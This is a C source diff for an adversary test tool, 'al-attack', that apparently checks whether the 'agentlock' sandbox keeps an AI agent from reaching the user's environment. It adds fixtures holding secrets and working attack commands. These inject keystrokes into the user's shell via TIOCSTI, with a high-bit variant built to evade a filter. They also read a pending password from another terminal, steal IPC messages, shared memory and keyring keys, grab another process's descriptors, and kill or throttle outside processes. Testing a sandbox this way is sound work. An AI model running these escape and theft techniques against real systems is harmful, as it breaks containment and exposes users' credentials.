@@ -11,16 +11,27 @@
 #include <arpa/inet.h>
 #include <linux/bpf.h>
 #include <linux/io_uring.h>
+#include <linux/kcmp.h>
+#include <linux/keyctl.h>
+#include <linux/tiocl.h>
 #include <netinet/in.h>
+#include <poll.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ipc.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/msg.h>
 #include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -28,6 +39,7 @@
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <sys/xattr.h>
+#include <termios.h>
 #include <unistd.h>
 
 static int say(const char *what, int rc)
@@ -126,6 +138,10 @@ static int connect_cmd(const char *path, int type)
 	cat_fd(s);
 	return 0;
 }
+
+/* TIOCSTI with bits above 32 set: ioctl(2) takes an unsigned int, so the
+ * kernel drops them; a filter that compares all 64 bits would miss it. */
+#define AL_TIOCSTI_HIGH 0x100000000UL
 
 #ifndef MSG_FASTOPEN
 #define MSG_FASTOPEN 0x20000000
@@ -467,6 +483,624 @@ static int victim_cmd(const char *secret_file, const char *pidfile)
 	return 0;
 }
 
+/*
+ * Fixture daemons. The caller returns once the child is set up, printing the
+ * child's one-line description (its pid first) for the harness; the child
+ * lives on in its own session, stdin and stdout on /dev/null, stderr (its
+ * log) as given. A child that fails its set-up exits: the caller says so.
+ */
+static int daemon_start(int *ready)
+{
+	char buf[512];
+	size_t len = 0;
+	ssize_t n;
+	int p[2];
+	pid_t pid;
+
+	if (pipe(p))
+		return say("pipe", -1);
+	pid = fork();
+	if (pid < 0)
+		return say("fork", -1);
+	if (pid > 0) {
+		close(p[1]);
+		while (len < sizeof(buf) && (n = read(p[0], buf + len, sizeof(buf) - len)) > 0)
+			len += (size_t)n;
+		if (!len) {
+			fprintf(stderr, "al-attack: the fixture died while setting up (see its log)\n");
+			exit(1);
+		}
+		fwrite(buf, 1, len, stdout);
+		exit(0);
+	}
+	close(p[0]);
+	setsid();
+	*ready = p[1];
+	return 0;
+}
+
+static void daemon_ready(int ready, const char *line)
+{
+	int null = open("/dev/null", O_RDWR);
+
+	if (write(ready, line, strlen(line)) < 0)
+		_exit(1);
+	close(ready);
+	dup2(null, STDIN_FILENO);
+	dup2(null, STDOUT_FILENO);
+	close(null);
+}
+
+static void __attribute__((noreturn)) die(const char *what)
+{
+	fprintf(stderr, "al-attack: %s: %s\n", what, strerror(errno));
+	_exit(1);
+}
+
+static int open_pty(int *slave)
+{
+	int m = posix_openpt(O_RDWR | O_NOCTTY);
+
+	if (m < 0 || grantpt(m) || unlockpt(m))
+		return -1;
+	*slave = open(ptsname(m), O_RDWR | O_NOCTTY);
+	return *slave < 0 ? -1 : m;
+}
+
+/*
+ * Outside fixture: the terminal agentlock was started on, with the user's
+ * shell behind it. Runs CMD with a new pty as its controlling terminal and
+ * stdio, copies its output to stdout, and once it has exited writes to LOG
+ * every byte left waiting in the terminal's input: what the shell would run.
+ */
+static int pty_run_cmd(const char *log, char **argv)
+{
+	struct termios t;
+	char buf[4096];
+	int m, s, fd, status = 0;
+	bool done = false;
+	ssize_t n;
+	pid_t pid;
+
+	m = open_pty(&s);
+	if (m < 0 || tcgetattr(s, &t))
+		return say("pty-run: pty", -1);
+	t.c_oflag &= ~(tcflag_t)ONLCR; /* output lines as written, for the judge */
+	tcsetattr(s, TCSANOW, &t);
+	pid = fork();
+	if (pid < 0)
+		return say("pty-run: fork", -1);
+	if (pid == 0) {
+		setsid();
+		if (ioctl(s, TIOCSCTTY, 0))
+			die("TIOCSCTTY");
+		dup2(s, STDIN_FILENO);
+		dup2(s, STDOUT_FILENO);
+		dup2(s, STDERR_FILENO);
+		close(m);
+		if (s > STDERR_FILENO)
+			close(s);
+		execvp(argv[0], argv);
+		die(argv[0]);
+	}
+	fcntl(m, F_SETFL, O_NONBLOCK);
+	while (!done) {
+		struct pollfd p = { .fd = m, .events = POLLIN };
+
+		poll(&p, 1, 100);
+		while ((n = read(m, buf, sizeof(buf))) > 0)
+			fwrite(buf, 1, (size_t)n, stdout);
+		done = waitpid(pid, &status, WNOHANG) == pid;
+	}
+	while ((n = read(m, buf, sizeof(buf))) > 0)
+		fwrite(buf, 1, (size_t)n, stdout);
+	/* Raw and non-blocking: a line without its newline is input too. */
+	tcgetattr(s, &t);
+	cfmakeraw(&t);
+	t.c_cc[VMIN] = 0;
+	t.c_cc[VTIME] = 0;
+	tcsetattr(s, TCSANOW, &t);
+	fcntl(s, F_SETFL, O_NONBLOCK);
+	fd = open(log, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+	if (fd < 0)
+		return say(log, -1);
+	while ((n = read(s, buf, sizeof(buf))) > 0)
+		if (write(fd, buf, (size_t)n) != n)
+			return say(log, -1);
+	close(fd);
+	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+}
+
+/*
+ * Outside fixture: the user's other terminal, a password prompt (echo off)
+ * with a secret (AL_TTY_SECRET: argv is readable by anyone) typed in and not
+ * yet read. Logs to stderr whatever is written to its screen. Prints
+ * "PID /dev/pts/N".
+ */
+static int tty_holder_cmd(void)
+{
+	const char *secret = getenv("AL_TTY_SECRET");
+	char line[128], buf[256];
+	struct termios t;
+	int ready, m, s;
+	ssize_t n;
+
+	if (!secret) {
+		fprintf(stderr, "al-attack: tty-holder needs AL_TTY_SECRET\n");
+		return 2;
+	}
+	if (daemon_start(&ready))
+		return 1;
+	m = open_pty(&s);
+	if (m < 0 || fchmod(s, 0620) || tcgetattr(s, &t))
+		die("tty-holder: pty");
+	t.c_lflag &= ~(tcflag_t)(ECHO | ECHONL);
+	if (tcsetattr(s, TCSANOW, &t) || dprintf(m, "%s\n", secret) < 0)
+		die("tty-holder: typing the secret");
+	snprintf(line, sizeof(line), "%d %s\n", getpid(), ptsname(m));
+	daemon_ready(ready, line);
+	for (;;) {
+		n = read(m, buf, sizeof(buf));
+		if (n > 0)
+			fprintf(stderr, "TTY-RECEIVED %.*s\n", (int)n, buf);
+		else if (n < 0 && errno != EINTR)
+			die("tty-holder: read");
+	}
+}
+
+/* Types TEXT and a newline into the terminal on stdin, as the user would
+ * (TIOCSTI). CMD is the ioctl number as passed: the kernel keeps its low 32 bits. */
+static int tiocsti_cmd(const char *what, unsigned long cmd, const char *text)
+{
+	const char *p;
+
+	for (p = text; *p; p++)
+		if (syscall(SYS_ioctl, STDIN_FILENO, cmd, p) < 0)
+			return say(what, -1);
+	if (syscall(SYS_ioctl, STDIN_FILENO, cmd, "\n") < 0)
+		return say(what, -1);
+	return say(what, 0);
+}
+
+#define AL_TTY_WRITTEN "AL-WROTE-TO-YOUR-TERMINAL\n"
+
+/* Reads what waits in a terminal's input queue, then writes to its screen. */
+static int tty_steal_cmd(const char *path)
+{
+	int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
+	char buf[256];
+	ssize_t n;
+
+	if (fd < 0)
+		return say(path, -1);
+	printf("%s: opened\n", path);
+	n = read(fd, buf, sizeof(buf));
+	if (n > 0)
+		printf("read: %.*s\n", (int)n, buf);
+	else if (n < 0)
+		say("read", -1);
+	say("write", (int)write(fd, AL_TTY_WRITTEN, strlen(AL_TTY_WRITTEN)));
+	close(fd);
+	return 0;
+}
+
+#define AL_SHM_KEY 0x414c0001
+#define AL_MSG_KEY 0x414c0002
+#define AL_SEM_KEY 0x414c0003
+#define AL_MQ_NAME "al-queue" /* "/al-queue": the syscall takes no slash */
+#define AL_SEM_VALUE 7
+#define AL_IPC_TEXT 128
+#define AL_SHM_SIZE 4096
+#define AL_MQ_MAXMSG 4
+
+union semun {
+	int val;
+	struct semid_ds *buf;
+	unsigned short *array;
+};
+
+struct al_msg {
+	long type;
+	char text[AL_IPC_TEXT];
+};
+
+struct al_mq_attr {
+	long flags, maxmsg, msgsize, curmsgs, pad[4];
+};
+
+/*
+ * Outside fixture (as the user): the user's IPC objects, owner-only. A SysV
+ * shared memory segment (attached here) and message queue with a secret each,
+ * a semaphore set to AL_SEM_VALUE, and a POSIX message queue (held open here)
+ * with a secret. Secrets come from the environment. Prints "PID SHMADDR".
+ */
+static int ipc_holder_cmd(void)
+{
+	const char *shm_s = getenv("AL_SHM_SECRET"), *msg_s = getenv("AL_MSG_SECRET");
+	const char *mq_s = getenv("AL_MQ_SECRET");
+	struct al_mq_attr a = { .maxmsg = AL_MQ_MAXMSG, .msgsize = AL_IPC_TEXT };
+	struct al_msg msg = { .type = 1 };
+	union semun v = { .val = AL_SEM_VALUE };
+	int ready, shm, q, sem;
+	char line[128], *addr;
+	long mq;
+
+	if (!shm_s || !msg_s || !mq_s) {
+		fprintf(stderr, "al-attack: ipc-holder needs AL_SHM_SECRET, AL_MSG_SECRET, AL_MQ_SECRET\n");
+		return 2;
+	}
+	if (daemon_start(&ready))
+		return 1;
+	shm = shmget(AL_SHM_KEY, AL_SHM_SIZE, IPC_CREAT | IPC_EXCL | 0600);
+	if (shm < 0 || (addr = shmat(shm, NULL, 0)) == (void *)-1)
+		die("ipc-holder: shm");
+	snprintf(addr, AL_SHM_SIZE, "%s", shm_s);
+	snprintf(msg.text, sizeof(msg.text), "%s", msg_s);
+	q = msgget(AL_MSG_KEY, IPC_CREAT | IPC_EXCL | 0600);
+	if (q < 0 || msgsnd(q, &msg, strlen(msg.text) + 1, 0))
+		die("ipc-holder: msg");
+	sem = semget(AL_SEM_KEY, 1, IPC_CREAT | IPC_EXCL | 0600);
+	if (sem < 0 || semctl(sem, 0, SETVAL, v))
+		die("ipc-holder: sem");
+	mq = syscall(SYS_mq_open, AL_MQ_NAME, O_RDWR | O_CREAT | O_EXCL, 0600, &a);
+	if (mq < 0 || syscall(SYS_mq_timedsend, mq, mq_s, strlen(mq_s), 0, NULL))
+		die("ipc-holder: mqueue");
+	snprintf(line, sizeof(line), "%d %p\n", getpid(), (void *)addr);
+	daemon_ready(ready, line);
+	for (;;)
+		pause();
+}
+
+/* Removes the fixture's IPC objects (run outside, after its holder is gone). */
+static int ipc_clean_cmd(void)
+{
+	int id;
+
+	if ((id = shmget(AL_SHM_KEY, 0, 0)) >= 0)
+		shmctl(id, IPC_RMID, NULL);
+	if ((id = msgget(AL_MSG_KEY, 0)) >= 0)
+		msgctl(id, IPC_RMID, NULL);
+	if ((id = semget(AL_SEM_KEY, 0, 0)) >= 0)
+		semctl(id, 0, IPC_RMID);
+	syscall(SYS_mq_unlink, AL_MQ_NAME);
+	return 0;
+}
+
+/* What the user's IPC objects look like now (the judge runs it outside). */
+static int ipc_state_cmd(void)
+{
+	struct al_mq_attr a;
+	struct shmid_ds sd;
+	struct msqid_ds md;
+	int id;
+	long mq;
+
+	if ((id = shmget(AL_SHM_KEY, 0, 0)) >= 0 && !shmctl(id, IPC_STAT, &sd))
+		printf("shm %d: %zu bytes, mode %o, owner %u\n", id, sd.shm_segsz,
+		       sd.shm_perm.mode & 0777, sd.shm_perm.uid);
+	else
+		printf("shm: gone\n");
+	if ((id = msgget(AL_MSG_KEY, 0)) >= 0 && !msgctl(id, IPC_STAT, &md))
+		printf("msg %d: %lu messages, mode %o\n", id, (unsigned long)md.msg_qnum,
+		       md.msg_perm.mode & 0777);
+	else
+		printf("msg: gone\n");
+	if ((id = semget(AL_SEM_KEY, 0, 0)) >= 0)
+		printf("sem %d: value %d\n", id, semctl(id, 0, GETVAL));
+	else
+		printf("sem: gone\n");
+	mq = syscall(SYS_mq_open, AL_MQ_NAME, O_RDONLY, 0, NULL);
+	if (mq >= 0 && !syscall(SYS_mq_getsetattr, mq, NULL, &a))
+		printf("mqueue /%s: %ld messages\n", AL_MQ_NAME, a.curmsgs);
+	else
+		printf("mqueue: gone\n");
+	return 0;
+}
+
+static int shm_read_cmd(unsigned long key)
+{
+	int id = shmget((key_t)key, 0, 0);
+	char *p;
+
+	if (say("shmget", id))
+		return 1;
+	p = shmat(id, NULL, SHM_RDONLY);
+	if (say("shmat", p == (void *)-1 ? -1 : 0))
+		return 1;
+	printf("%.*s\n", AL_IPC_TEXT, p);
+	return 0;
+}
+
+/* The segment as mapped in an outside process that holds it: found in
+ * /proc/PID/maps (else at ADDR), read through /proc/PID/mem. */
+static int shm_mem_cmd(pid_t pid, unsigned long key, unsigned long addr)
+{
+	char p[64], want[32], line[512], buf[AL_IPC_TEXT];
+	FILE *f;
+	ssize_t n;
+	int fd;
+
+	snprintf(p, sizeof(p), "/proc/%d/maps", pid);
+	snprintf(want, sizeof(want), "/SYSV%08lx", key);
+	f = fopen(p, "r");
+	if (!f) {
+		say(p, -1);
+	} else {
+		while (fgets(line, sizeof(line), f))
+			if (strstr(line, want))
+				addr = strtoul(line, NULL, 16);
+		fclose(f);
+	}
+	snprintf(p, sizeof(p), "/proc/%d/mem", pid);
+	fd = open(p, O_RDONLY);
+	if (fd < 0)
+		return say(p, -1);
+	n = pread(fd, buf, sizeof(buf), (off_t)addr);
+	if (say("pread", (int)n))
+		return 1;
+	printf("%.*s\n", (int)strnlen(buf, (size_t)n), buf);
+	return 0;
+}
+
+static int msg_read_cmd(unsigned long key)
+{
+	struct al_msg m;
+	int id = msgget((key_t)key, 0);
+	ssize_t n;
+
+	if (say("msgget", id))
+		return 1;
+	n = msgrcv(id, &m, sizeof(m.text), 0, IPC_NOWAIT | MSG_NOERROR);
+	if (say("msgrcv", (int)n))
+		return 1;
+	printf("%.*s\n", (int)n, m.text);
+	return 0;
+}
+
+static int sem_set_cmd(unsigned long key)
+{
+	union semun v = { .val = 0 };
+	int id = semget((key_t)key, 0, 0);
+
+	if (say("semget", id))
+		return 1;
+	say("semctl SETVAL", semctl(id, 0, SETVAL, v));
+	say("semctl IPC_RMID", semctl(id, 0, IPC_RMID));
+	return 0;
+}
+
+/* NAME is a queue ("/al-queue"), or a path such as /proc/PID/fd/N that
+ * reopens a queue another process holds. */
+static int mq_read_cmd(const char *name)
+{
+	char buf[8192];
+	const char *what = name;
+	long fd, n;
+
+	if (!strncmp(name, "/proc/", 6)) {
+		fd = open(name, O_RDONLY | O_NONBLOCK);
+	} else {
+		what = "mq_open";
+		fd = syscall(SYS_mq_open, name + (name[0] == '/'), O_RDONLY | O_NONBLOCK, 0, NULL);
+	}
+	if (fd < 0)
+		return say(what, -1);
+	n = syscall(SYS_mq_timedreceive, fd, buf, sizeof(buf), NULL, NULL);
+	if (say("mq_receive", (int)n))
+		return 1;
+	printf("%.*s\n", (int)n, buf);
+	return 0;
+}
+
+/* Joins the IPC namespace NSPATH names (an outside process's), then runs CMD. */
+static int ipc_setns_cmd(const char *nspath, char **argv)
+{
+	int fd = open(nspath, O_RDONLY);
+
+	if (fd < 0)
+		return say(nspath, -1);
+	if (say("setns", setns(fd, CLONE_NEWIPC)))
+		return 1;
+	execvp(argv[0], argv);
+	return say(argv[0], -1);
+}
+
+/* Owner everything; the user may view, read and search (as a user's
+ * long-lived keys are: a Kerberos KEYRING cache, an ecryptfs passphrase). */
+#define AL_KEY_PERM 0x3f0b0000
+#define AL_KEY_IDS 64
+#define AL_KEY_PAYLOAD 4096
+#define AL_KEY_PLANTED "planted by the agent"
+
+static long keyctl5(long op, long a, long b, long c, long d)
+{
+	return syscall(SYS_keyctl, op, a, b, c, d);
+}
+
+/* Outside fixture (as the user): @u holds one readable "user" key DESC with
+ * the payload AL_KEY_SECRET, and nothing else. */
+static int key_setup_cmd(const char *desc)
+{
+	const char *secret = getenv("AL_KEY_SECRET");
+	long id;
+
+	if (!secret) {
+		fprintf(stderr, "al-attack: key-setup needs AL_KEY_SECRET\n");
+		return 2;
+	}
+	keyctl5(KEYCTL_CLEAR, KEY_SPEC_USER_KEYRING, 0, 0, 0);
+	id = syscall(SYS_add_key, "user", desc, secret, strlen(secret), KEY_SPEC_USER_KEYRING);
+	if (id < 0)
+		return say("key-setup: add_key", -1);
+	if (keyctl5(KEYCTL_SETPERM, id, AL_KEY_PERM, 0, 0) < 0)
+		return say("key-setup: keyctl_setperm", -1);
+	return 0;
+}
+
+/* The user's keyring now: each key described, with a hash of its payload
+ * (never the payload: this goes into the judge's snapshot). */
+static int key_state_cmd(void)
+{
+	int32_t ids[AL_KEY_IDS];
+	char desc[256], payload[AL_KEY_PAYLOAD];
+	long n, i, len, j;
+	uint32_t h;
+
+	n = keyctl5(KEYCTL_READ, KEY_SPEC_USER_KEYRING, (long)ids, sizeof(ids), 0);
+	if (n < 0)
+		return say("key-state: keyctl_read @u", -1);
+	for (i = 0; i < n / (long)sizeof(ids[0]) && i < AL_KEY_IDS; i++) {
+		len = keyctl5(KEYCTL_DESCRIBE, ids[i], (long)desc, sizeof(desc), 0);
+		if (len < 0)
+			snprintf(desc, sizeof(desc), "(%s)", strerror(errno));
+		len = keyctl5(KEYCTL_READ, ids[i], (long)payload, sizeof(payload), 0);
+		for (h = 2166136261u, j = 0; j < len && j < AL_KEY_PAYLOAD; j++)
+			h = (h ^ (unsigned char)payload[j]) * 16777619u;
+		printf("key %d %.*s payload %ld bytes, hash %08x\n", ids[i], (int)sizeof(desc), desc,
+		       len, h);
+	}
+	return 0;
+}
+
+static int key_print(long id)
+{
+	char buf[AL_KEY_PAYLOAD];
+	long n = keyctl5(KEYCTL_READ, id, (long)buf, sizeof(buf), 0);
+
+	if (say("keyctl_read", (int)n))
+		return 1;
+	printf("%.*s\n", (int)(n < (long)sizeof(buf) ? n : (long)sizeof(buf)), buf);
+	return 0;
+}
+
+/* Finds the user's key DESC in @u and reads it, then asks for it again by
+ * request_key (which searches every keyring the process has). */
+static int key_steal_cmd(const char *desc)
+{
+	long id = keyctl5(KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, (long)"user", (long)desc, 0);
+
+	if (!say("keyctl_search @u", (int)id))
+		key_print(id);
+	id = syscall(SYS_request_key, "user", desc, NULL, 0);
+	if (!say("request_key", (int)id))
+		key_print(id);
+	return 0;
+}
+
+#define AL_PLANTED_NOFILE 64
+#define AL_PLANTED_NICE 19
+#define AL_IOPRIO_WHO_PROCESS 1
+#define AL_IOPRIO_CLASS_SHIFT 13
+#define AL_IOPRIO_CLASS_IDLE 3
+#define AL_PLANTED_TIME 978307200 /* 2001-01-01 */
+#define AL_MAX_FD_SCAN 32
+
+static int ioprio_get_cmd(pid_t pid)
+{
+	long v = syscall(SYS_ioprio_get, AL_IOPRIO_WHO_PROCESS, pid);
+
+	if (v < 0)
+		return say("ioprio_get", -1);
+	printf("ioprio %d: class %ld data %ld\n", pid, v >> AL_IOPRIO_CLASS_SHIFT,
+	       v & ((1L << AL_IOPRIO_CLASS_SHIFT) - 1));
+	return 0;
+}
+
+/* Makes PID the owner of a descriptor's SIGIO, then makes the descriptor
+ * readable: SIGIO's default action ends PID. */
+static int sigio_cmd(const char *how, pid_t pid)
+{
+	struct f_owner_ex ex = { .type = F_OWNER_PID, .pid = pid };
+	bool sock = !strcmp(how, "fiosetown") || !strcmp(how, "siocspgrp");
+	int fds[2], on = 1;
+
+	if (sock ? socketpair(AF_UNIX, SOCK_STREAM, 0, fds) : pipe(fds))
+		return say("pipe", -1);
+	if (!strcmp(how, "fsetown"))
+		say("F_SETOWN", fcntl(fds[0], F_SETOWN, pid));
+	else if (!strcmp(how, "fsetown-ex"))
+		say("F_SETOWN_EX", fcntl(fds[0], F_SETOWN_EX, &ex));
+	else if (!strcmp(how, "fiosetown"))
+		say("FIOSETOWN", ioctl(fds[0], FIOSETOWN, &pid));
+	else if (!strcmp(how, "siocspgrp"))
+		say("SIOCSPGRP", ioctl(fds[0], SIOCSPGRP, &pid));
+	else
+		return say("sigio: fsetown, fsetown-ex, fiosetown or siocspgrp", (errno = EINVAL, -1));
+	if (sock)
+		say("FIOASYNC", ioctl(fds[0], FIOASYNC, &on));
+	else
+		say("O_ASYNC", fcntl(fds[0], F_SETFL, O_ASYNC | O_NONBLOCK));
+	say("write", (int)write(fds[1], "x", 1));
+	return 0;
+}
+
+/* Copies each descriptor PID holds and reads it from the start. */
+static int pidfd_getfd_cmd(pid_t pid)
+{
+	long pfd = syscall(SYS_pidfd_open, pid, 0), fd;
+	char buf[256];
+	ssize_t n;
+	int i;
+
+	if (pfd < 0)
+		return say("pidfd_open", -1);
+	for (i = 0; i < AL_MAX_FD_SCAN; i++) {
+		fd = syscall(SYS_pidfd_getfd, pfd, i, 0);
+		if (fd < 0 && errno == EBADF)
+			continue;
+		if (fd < 0)
+			return say("pidfd_getfd", -1);
+		printf("pidfd_getfd %d: ok\n", i);
+		n = pread((int)fd, buf, sizeof(buf), 0);
+		if (n > 0)
+			fwrite(buf, 1, (size_t)n, stdout);
+		close((int)fd);
+	}
+	return 0;
+}
+
+/* Advises the kernel to page out part of PID's stack (its environment). */
+static int process_madvise_cmd(pid_t pid)
+{
+	long pfd = syscall(SYS_pidfd_open, pid, 0), page = sysconf(_SC_PAGESIZE);
+	struct iovec v = { (void *)(env_start(pid) & ~(unsigned long)(page - 1)), (size_t)page };
+
+	if (pfd < 0)
+		return say("pidfd_open", -1);
+	return say("process_madvise", (int)syscall(SYS_process_madvise, pfd, &v, 1, MADV_COLD, 0));
+}
+
+#define AL_NODEMASK_BITS 64
+
+/* Asks where an outside process's pages live (move_pages without nodes
+ * moves nothing), then migrates its pages from node 0 to node 0. */
+static int move_pages_cmd(pid_t pid)
+{
+	long page = sysconf(_SC_PAGESIZE);
+	void *addr = (void *)(env_start(pid) & ~(unsigned long)(page - 1));
+	unsigned long nodes = 1; /* node 0 */
+	int status = 0;
+
+	if (!say("move_pages", (int)syscall(SYS_move_pages, pid, 1, &addr, NULL, &status, 0)))
+		printf("page of %d at %p: status %d\n", pid, addr, status);
+	return say("migrate_pages",
+		   (int)syscall(SYS_migrate_pages, pid, AL_NODEMASK_BITS, &nodes, &nodes));
+}
+
+static int utime_cmd(const char *path, bool opath)
+{
+	struct timespec ts[2] = { { AL_PLANTED_TIME, 0 }, { AL_PLANTED_TIME, 0 } };
+	int fd;
+
+	if (!opath)
+		return say("utimensat", utimensat(AT_FDCWD, path, ts, 0));
+	/* An O_PATH descriptor is never opened for reading or writing. */
+	fd = open(path, O_PATH);
+	if (say("open O_PATH", fd))
+		return 1;
+	return say("utimensat", utimensat(fd, "", ts, AT_EMPTY_PATH));
+}
+
 int main(int argc, char **argv)
 {
 	const char *c = argc > 1 ? argv[1] : "";
@@ -520,6 +1154,79 @@ int main(int argc, char **argv)
 		return say("mknod", mknod(argv[2], S_IFIFO | 0666, 0));
 	if (!strcmp(c, "victim") && argc == 4)
 		return victim_cmd(argv[2], argv[3]);
+	if (!strcmp(c, "pty-run") && argc >= 4)
+		return pty_run_cmd(argv[2], argv + 3);
+	if (!strcmp(c, "tty-holder") && argc == 2)
+		return tty_holder_cmd();
+	if (!strcmp(c, "tiocsti") && argc == 3)
+		return tiocsti_cmd("tiocsti", TIOCSTI, argv[2]);
+	if (!strcmp(c, "tiocsti64") && argc == 3)
+		return tiocsti_cmd("tiocsti64", AL_TIOCSTI_HIGH | TIOCSTI, argv[2]);
+	if (!strcmp(c, "tioclinux") && argc == 2) {
+		char sub = TIOCL_PASTESEL;
+
+		return say("tioclinux", ioctl(STDIN_FILENO, TIOCLINUX, &sub));
+	}
+	if (!strcmp(c, "tty-steal") && argc == 3)
+		return tty_steal_cmd(argv[2]);
+	if (!strcmp(c, "ipc-holder") && argc == 2)
+		return ipc_holder_cmd();
+	if (!strcmp(c, "ipc-clean") && argc == 2)
+		return ipc_clean_cmd();
+	if (!strcmp(c, "ipc-state") && argc == 2)
+		return ipc_state_cmd();
+	if (!strcmp(c, "shm-read") && argc == 3)
+		return shm_read_cmd(strtoul(argv[2], NULL, 0));
+	if (!strcmp(c, "shm-mem") && argc == 5)
+		return shm_mem_cmd(atoi(argv[2]), strtoul(argv[3], NULL, 0), strtoul(argv[4], NULL, 0));
+	if (!strcmp(c, "msg-read") && argc == 3)
+		return msg_read_cmd(strtoul(argv[2], NULL, 0));
+	if (!strcmp(c, "sem-set") && argc == 3)
+		return sem_set_cmd(strtoul(argv[2], NULL, 0));
+	if (!strcmp(c, "mq-read") && argc == 3)
+		return mq_read_cmd(argv[2]);
+	if (!strcmp(c, "ipc-setns") && argc >= 4)
+		return ipc_setns_cmd(argv[2], argv + 3);
+	if (!strcmp(c, "key-setup") && argc == 3)
+		return key_setup_cmd(argv[2]);
+	if (!strcmp(c, "key-state") && argc == 2)
+		return key_state_cmd();
+	if (!strcmp(c, "key-steal") && argc == 3)
+		return key_steal_cmd(argv[2]);
+	if (!strcmp(c, "key-plant") && argc == 3)
+		return say("add_key", (int)syscall(SYS_add_key, "user", argv[2], AL_KEY_PLANTED,
+						   strlen(AL_KEY_PLANTED), KEY_SPEC_USER_KEYRING));
+	if (!strcmp(c, "prlimit") && argc == 3) {
+		struct rlimit r = { AL_PLANTED_NOFILE, AL_PLANTED_NOFILE };
+
+		return say("prlimit", prlimit(atoi(argv[2]), RLIMIT_NOFILE, &r, NULL));
+	}
+	if (!strcmp(c, "setpriority") && argc == 3)
+		return say("setpriority", setpriority(PRIO_PROCESS, (id_t)atoi(argv[2]), AL_PLANTED_NICE));
+	if (!strcmp(c, "sched-idle") && argc == 3) {
+		struct sched_param sp = { 0 };
+
+		return say("sched_setscheduler", sched_setscheduler(atoi(argv[2]), SCHED_IDLE, &sp));
+	}
+	if (!strcmp(c, "ioprio-set") && argc == 3)
+		return say("ioprio_set", (int)syscall(SYS_ioprio_set, AL_IOPRIO_WHO_PROCESS, atoi(argv[2]),
+						      AL_IOPRIO_CLASS_IDLE << AL_IOPRIO_CLASS_SHIFT));
+	if (!strcmp(c, "ioprio-get") && argc == 3)
+		return ioprio_get_cmd(atoi(argv[2]));
+	if (!strcmp(c, "sigio") && argc == 4)
+		return sigio_cmd(argv[2], atoi(argv[3]));
+	if (!strcmp(c, "pidfd-getfd") && argc == 3)
+		return pidfd_getfd_cmd(atoi(argv[2]));
+	if (!strcmp(c, "kcmp") && argc == 3)
+		return say("kcmp", (int)syscall(SYS_kcmp, getpid(), atoi(argv[2]), KCMP_FILE, 0, 0));
+	if (!strcmp(c, "process-madvise") && argc == 3)
+		return process_madvise_cmd(atoi(argv[2]));
+	if (!strcmp(c, "move-pages") && argc == 3)
+		return move_pages_cmd(atoi(argv[2]));
+	if (!strcmp(c, "utime") && argc == 3)
+		return utime_cmd(argv[2], false);
+	if (!strcmp(c, "opath-utime") && argc == 3)
+		return utime_cmd(argv[2], true);
 	fprintf(stderr, "usage: al-attack COMMAND ARGS (see adversary/attack.c)\n");
 	return 2;
 }
